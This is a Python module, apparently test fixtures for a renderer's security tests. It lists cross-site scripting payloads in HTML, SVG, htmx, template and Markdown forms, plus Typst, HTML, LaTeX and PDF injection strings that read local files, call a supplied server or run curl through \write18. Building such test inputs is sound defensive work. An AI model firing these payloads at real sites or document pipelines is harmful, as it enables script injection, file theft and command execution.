"""Texts that somebody would type to have something run, read or fetched."""

from __future__ import annotations

MARK = "zq7"
"""Stands in each of them, to find it again."""

SCRIPTS = [
    f"<script>alert('{MARK}')</script>",
    f"<ScRiPt src=//{MARK}.example/x.js></sCrIpT>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"<img src=x onerror=alert`{MARK}`>",
    f"<svg onload=alert('{MARK}')>",
    f"<svg><script>alert('{MARK}')</script></svg>",
    f"<svg><animate onbegin=alert('{MARK}') attributeName=x dur=1s>",
    f"<math><mi xlink:href='javascript:alert(\"{MARK}\")'>x",
    f"<body onload=alert('{MARK}')>",
    f"<iframe src='javascript:alert(\"{MARK}\")'></iframe>",
    f"<iframe srcdoc='<script>alert({MARK!r})</script>'></iframe>",
    f"<object data='data:text/html,<script>alert({MARK!r})</script>'></object>",
    f"<embed src='//{MARK}.example/x.swf'>",
    f"<link rel=stylesheet href='//{MARK}.example/x.css'>",
    f"<style>@import '//{MARK}.example/x.css';</style>",
    f"<base href='//{MARK}.example/'>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.example/'>",
    f"<form action='//{MARK}.example/'><input name=x><button>go</button></form>",
    f"<a href='javascript:alert(\"{MARK}\")'>go</a>",
    f"<a href='jAvAsCrIpT&#58;alert(\"{MARK}\")'>go</a>",
    f"<a href='data:text/html;base64,{MARK}'>go</a>",
    f"<details open ontoggle=alert('{MARK}')>",
    f"<input autofocus onfocus=alert('{MARK}')>",
    f"<video><source onerror=alert('{MARK}')></video>",
    f"<marquee onstart=alert('{MARK}')>",
    f"<div hx-get='/account/' hx-trigger='load' id={MARK}>",
    f"<div hx-on:load=\"alert('{MARK}')\">",
    f"<div data-hx-post='/accounts/logout/' data-hx-trigger='load' id={MARK}>",
    f"<template><script>alert('{MARK}')</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror=alert({MARK!r})>'>",
    f"</title><script>alert('{MARK}')</script>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"</script><script>alert('{MARK}')</script>",
    f"\"><script>alert('{MARK}')</script>",
    f"' onmouseover='alert({MARK})",
    f"\" autofocus onfocus=\"alert('{MARK}')",
    f"--><script>alert('{MARK}')</script><!--",
    f"]]><script>alert('{MARK}')</script>",
    f"{{{{ {MARK} }}}}{{% debug %}}{{% include 'base.html' %}}",
    f"[go](javascript:alert('{MARK}')) ![x](//{MARK}.example/x.png)",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
    f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
]  # fmt: skip


def for_documents(file: str, server: str) -> list[str]:
    """What would make a document read this file or ask this server, were the text taken for more than text."""
    return [
        f'#read("{file}")', f'#image("{file}")', f'#include "{file}"', f'#import "{file}": *', f'#csv("{file}")', f'#json("{file}")',
        f'#bibliography("{file}")', f'#plugin("{file}")', f'#raw(read("{file}"))', f'#eval("read(\\"{file}\\")")',
        f'#link("{server}/a")[go]', f'#image("{server}/b.png")', f'#show: it => read("{file}")', f'#sys.inputs {MARK}', '#read("report.typ")',
        f'#let x = read("{file}"); #x', f'#pdf.embed("{file}")', f'#pdf.attach("{file}")', f'$ #read("{file}") $', f'`#read("{file}")`',
        f'<img src="{server}/c.png">', f'<img src="file://{file}">', f'<link rel="attachment" href="file://{file}">',
        f'<object data="{server}/d"></object>', f'<style>@import "{server}/e.css"; @font-face{{src:url({server}/f)}}</style>',
        f'<iframe src="file://{file}"></iframe>', f'<svg><image href="{server}/g.svg"/></svg>', f'<a href="file://{file}">go</a>',
        f'\\input{{{file}}} \\write18{{curl {server}}}', f'/URI (file://{file}) /S /JavaScript /JS (app.alert({MARK}))',
    ]  # fmt: skip
